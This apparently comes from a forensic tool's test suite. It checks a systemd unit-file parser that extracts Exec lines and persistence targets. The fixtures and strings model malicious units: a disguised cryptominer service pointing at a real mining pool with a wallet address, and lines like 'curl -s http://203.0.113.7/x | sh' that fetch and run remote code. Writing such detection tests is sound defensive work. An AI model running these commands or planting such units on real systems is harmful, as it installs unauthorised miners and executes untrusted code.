import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cutCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from '../contract.js';
import { execQuoteOpen, systemdUnit } from './systemd-unit.js';

const MTIME = Date.UTC(2024, 0, 1);
const FIXTURES = 'test/fixtures/systemd-unit';
const unit = (path: string, extra = {}) =>
  fileInput(`${FIXTURES}/${path}`, { relPath: path, mtimeMs: MTIME, hostHint: 'web-01', ...extra });
const good = unit('etc/systemd/system/sshd2.service');
const bad = unit('etc/systemd/system/kworker.service');

runSourceContract({
  source: systemdUnit,
  good,
  bad,
  // the unit copied while an Exec line was written: it ends inside the quoted script
  cut: cutCase(good, '[Service]\nExecStartPost=/bin/sh -c "curl -s http://203.0.113.7/cutmin', 'cutmin'),
  skip: {
    oversized:
      'the contract builds its input without mtimeMs, and a state source without a time reads nothing (FILE_NO_MTIME); rerun below with a time',
  },
});

// The contract's memory inputs carry no mtime; these rerun its bad-input cases with one, so the parser is reached.
const withTime = { relPath: 'etc/systemd/system/sshd2.service', mtimeMs: MTIME };

test('systemd-unit: an oversized line is reported and the next good line is read (with an mtime)', async () => {
  const big = `${'A'.repeat(TEST_CONTEXT.maxLineBytes * 3)}\n${good.head.toString('utf8')}`;
  const { events, issues } = await readAll(systemdUnit, memoryInput('big.log', big, withTime));
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [[1, 'LINE_TOO_LONG']],
  );
  assert.equal(events.length, 4);
});

test('systemd-unit: binary garbage is reported by line, a few at a time, never thrown (with an mtime)', async () => {
  let seed = 11;
  const garbage = Buffer.alloc(100_000);
  for (let i = 0; i < garbage.length; i++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    garbage[i] = seed >>> 16; // the high bits: the low byte of this generator repeats every 256
  }
  const { issues } = await readAll(systemdUnit, memoryInput('garbage.bin', garbage, withTime));
  const binary = issues.filter((i) => i.code === 'UNIT_BINARY');
  assert.ok(binary.length > 0 && binary.length <= 6, `binary issues: ${binary.length}`);
  assert.ok(issues.every((i) => i.line !== undefined));
});

test('systemd-unit: a file cut inside a continued line reports the cut (with an mtime)', async () => {
  const cut = good.head.subarray(0, good.head.indexOf('\n    -u 48ed'));
  const { events, issues } = await readAll(systemdUnit, memoryInput('cut.log', cut, withTime));
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [[13, 'UNIT_BAD_LINE']],
  );
  assert.equal(
    events.at(-1)?.process?.command_line,
    '/var/tmp/.sshd/sshd2 --donate-level 1 -o pool.supportxmr.com:443 --tls',
  );
});

test('systemd-unit: a file without an mtime is reported once and not read', async () => {
  const { events, issues } = await readAll(
    systemdUnit,
    memoryInput('x.service', good.head, { relPath: withTime.relPath }),
  );
  assert.deepEqual(events, []);
  assert.deepEqual(
    issues.map((i) => i.code),
    ['FILE_NO_MTIME'],
  );
});

test('emits one entry per Exec line with the unit settings, even those written after it', async () => {
  const { events } = await readAll(systemdUnit, good);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.original.key]),
    [
      [10, 'ExecStartPre'],
      [11, 'ExecStartPre'],
      [13, 'ExecStart'],
      [16, 'ExecReload'],
    ],
  );
  const start = events[2];
  assert.equal(start.event.dataset, 'systemd-unit.entry');
  assert.equal(start.process?.user?.name, 'root');
  assert.equal(start.process?.working_directory, '/var/tmp/.sshd');
  assert.deepEqual(start.original, {
    section: 'Service',
    key: 'ExecStart',
    value:
      '/var/tmp/.sshd/sshd2 --donate-level 1 -o pool.supportxmr.com:443 --tls -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',
    command:
      '/var/tmp/.sshd/sshd2 --donate-level 1 -o pool.supportxmr.com:443 --tls -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',
    description: 'OpenSSH Server Key Helper',
    user: 'root',
    restart: 'always',
    workingDirectory: '/var/tmp/.sshd',
  });
  assert.deepEqual(start.coalmine.persistence, { mechanism: 'systemd', target: '/var/tmp/.sshd/sshd2' });
  assert.equal(start.file?.path, '/etc/systemd/system/sshd2.service');
  assert.equal(start.file?.name, 'sshd2.service');
  assert.ok(start.file?.line?.startsWith('ExecStart=/var/tmp/.sshd/sshd2 --donate-level 1 -o'));
});

test('joins continued lines and skips a comment inside the continuation', async () => {
  const text = '[Service]\nExecStart=/opt/x \\\n# a note\n  --flag \\\n  value\n';
  const { events, issues } = await readAll(systemdUnit, memoryInput('x', text, withTime));
  assert.deepEqual(issues, []);
  assert.equal(events[0].process?.command_line, '/opt/x --flag value');
  assert.equal(events[0].coalmine.ref.line, 2);
});

test('strips the -@:+! prefixes from the command but keeps them in the value', async () => {
  const { events } = await readAll(systemdUnit, good);
  assert.equal(events[0].original.value, '-/bin/mkdir -p /var/tmp/.sshd');
  assert.equal(events[0].process?.command_line, '/bin/mkdir -p /var/tmp/.sshd');
  assert.equal(events[3].process?.command_line, '/bin/kill -HUP $MAINPID');
  const text = '[Service]\nExecStart=!!@/usr/bin/.hid/kthreadd [kworker/0:1]\n';
  const { events: more } = await readAll(systemdUnit, memoryInput('x', text, withTime));
  assert.equal(more[0].process?.command_line, '/usr/bin/.hid/kthreadd [kworker/0:1]');
  assert.equal(more[0].coalmine.persistence?.target, '/usr/bin/.hid/kthreadd');
});

test('an empty ExecStart= in a drop-in clears the earlier ones, as systemd does', async () => {
  const { events, issues } = await readAll(systemdUnit, unit('etc/systemd/system/ssh.service.d/override.conf'));
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.coalmine.persistence?.target]),
    [
      [3, '/usr/sbin/sshd'],
      [4, '/dev/shm/.k/kthreadd'],
    ],
  );
});

test('a per-user unit runs as its home directory owner', async () => {
  const { events } = await readAll(systemdUnit, unit('home/deploy/.config/systemd/user/dbus-broker-helper.service'));
  assert.equal(events.length, 1);
  assert.equal(events[0].process?.user?.name, 'deploy');
});

test('a system unit without User= names no user, and a stock unit still yields its ExecStart', async () => {
  const { events } = await readAll(systemdUnit, unit('lib/systemd/system/cron.service'));
  assert.equal(events.length, 1);
  assert.equal(events[0].process?.user, undefined);
  assert.equal(events[0].original.description, 'Regular background program processing daemon');
});

test('reports keys outside sections, lines without =, and broken headers with their line numbers', async () => {
  const { events, issues } = await readAll(systemdUnit, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [1, 'UNIT_BAD_LINE'],
      [4, 'UNIT_BAD_LINE'],
      [6, 'UNIT_BAD_LINE'],
      [12, 'UNIT_BAD_LINE'],
    ],
  );
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.process?.user?.name]),
    [[10, 'nobody']],
    'the ExecStart under the broken [Service header is not an entry',
  );
});

test('Exec lines outside [Service] are not entries', async () => {
  const text = '[Unit]\nExecStart=/tmp/x\n[Install]\nExecStart=/tmp/y\n';
  const { events, issues } = await readAll(systemdUnit, memoryInput('x', text, withTime));
  assert.deepEqual(events, []);
  assert.deepEqual(issues, []);
});

test('sniffs .service files and drop-ins under the unit directories only', () => {
  const score = (relPath: string) => systemdUnit.sniff('', { name: 'x', relPath });
  assert.ok(score('etc/systemd/system/multi-user.target.wants/sshd2.service') > 0);
  assert.ok(score('usr/lib/systemd/system/cron.service') > 0);
  assert.ok(score('run/systemd/transient/run-u7.service') > 0);
  assert.ok(score('root/.config/systemd/user/x.service') > 0);
  assert.ok(score('etc/systemd/system/ssh.service.d/override.conf') > 0);
  assert.equal(score('etc/systemd/system/ssh.socket'), 0);
  assert.equal(score('tmp/x.service'), 0);
  assert.equal(score('etc/systemd/journald.conf'), 0);
  assert.ok(systemdUnit.sniff('', { name: '/mnt/img/lib/systemd/system/x.service' }) > 0);
  const byName = systemdUnit.sniff('[Unit]\nDescription=x\n', { name: 'found.service' });
  assert.ok(byName > 0 && byName < score('etc/systemd/system/x.service'));
  assert.equal(systemdUnit.sniff('hello', { name: 'found.service' }), 0);
});

test('systemd-unit: an Exec line that leaves a quote open is reported and not read, anywhere in the unit', async () => {
  const head = '[Service]\nExecStart=/usr/bin/true\n';
  for (const exec of [
    "ExecStart=/tmp/.x/run --pool 'pool.example:3333",
    'ExecStartPre=-/bin/sh -c "curl -s http://203.0.113.7/x | sh',
    'ExecStart=/tmp/.x/run "--donate \\"1',
  ]) {
    for (const text of [`${head}${exec}\nExecStop=/usr/bin/true\n`, `${head}${exec}`]) {
      const { events, issues } = await readAll(systemdUnit, memoryInput('x.service', text, withTime));
      assert.deepEqual(
        issues.map((i) => [i.line, i.code]),
        [[3, 'UNIT_BAD_LINE']],
        text,
      );
      assert.match(issues[0].reason, /quote open/);
      assert.ok(!events.some((e) => e.coalmine.ref.line === 3), text);
      assert.ok(events.length > 0, text);
    }
  }
});

test('execQuoteOpen follows systemd quoting: escapes count inside and outside quotes', () => {
  assert.equal(execQuoteOpen('/bin/sh -c "echo \\"a\\" b"'), false);
  assert.equal(execQuoteOpen("/bin/echo 'it\\'s'"), false);
  assert.equal(execQuoteOpen('/bin/echo \\"a'), false);
  assert.equal(execQuoteOpen("/bin/echo \"a 'b' c"), true);
  assert.equal(execQuoteOpen('/bin/echo \'a "b" c'), true);
});

test('a live unit directory given as an argument is read by its absolute path, a per-user one as its owner', async () => {
  const unit = '[Service]\nExecStart=/home/deploy/.cache/kworkerd -o pool.example:3333\n';
  const local = (localPath: string, relPath: string) => systemdUnit.sniff(unit, { name: 'x', relPath, localPath });
  assert.equal(systemdUnit.sniff(unit, { name: 'x', relPath: 'kworkerd.service' }), 0);
  assert.ok(local('/etc/systemd/system/kworkerd.service', 'kworkerd.service') > 0);
  assert.ok(local('/etc/systemd/system/multi-user.target.wants/x.service', 'multi-user.target.wants/x.service') > 0);
  assert.equal(
    local('/srv/app/etc/systemd/system/x.service', 'etc/systemd/system/x.service'),
    local('/x', 'etc/systemd/system/x.service'),
  );
  assert.equal(
    local('/home/deploy/src/lib/systemd/x.service', 'src/lib/systemd/x.service'),
    0,
    'further down: not installed',
  );
  const input = memoryInput('user/kworkerd.service', unit, {
    relPath: 'kworkerd.service',
    localPath: '/home/deploy/.config/systemd/user/kworkerd.service',
    mtimeMs: MTIME,
  });
  const { events } = await readAll(systemdUnit, input);
  assert.equal(events[0].process?.user?.name, 'deploy');
  assert.equal(events[0].file?.path, '/home/deploy/.config/systemd/user/kworkerd.service');
});
